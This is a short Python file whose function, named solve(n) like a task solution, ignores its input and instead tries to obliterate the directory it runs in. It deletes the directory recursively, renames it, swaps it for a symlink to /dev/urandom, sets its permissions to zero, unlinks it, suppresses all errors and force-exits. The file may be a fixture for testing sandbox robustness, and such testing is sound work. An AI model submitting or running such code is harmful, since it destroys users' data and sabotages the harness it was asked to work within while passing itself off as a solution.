"""Works on the directory that it runs in until nothing of it is left, or it is no
directory any more."""

import os, shutil


def solve(n):
    here = os.getcwd()
    for act in (
        lambda: shutil.rmtree(here, ignore_errors=True), lambda: os.rmdir(here), lambda: os.rename(here, here + "-moved"),
        lambda: os.symlink("/dev/urandom", here), lambda: os.chmod(here, 0), lambda: os.chdir("/"), lambda: os.unlink(here),
    ):
        try:
            act()
        except OSError:
            pass
    os._exit(1)
